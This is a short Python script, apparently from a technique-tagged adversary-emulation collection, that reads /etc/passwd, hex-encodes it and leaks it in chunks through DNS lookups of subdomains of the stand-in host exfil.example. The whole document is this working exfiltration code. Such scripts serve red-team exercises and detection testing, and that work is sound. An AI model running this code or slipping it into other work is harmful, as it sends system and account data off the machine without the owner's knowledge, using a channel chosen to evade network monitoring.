#!/usr/bin/env python3
# title: A file goes out in names of hosts
# technique: T1048.003 T1071.004
# needs: python3
# short: yes

import socket
data = open("/etc/passwd", "rb").read().hex()
for at in range(0, min(len(data), 1500), 60):
    try: socket.getaddrinfo(f"{data[at:at + 60]}.{at}.exfil.example", None)
    except OSError: pass
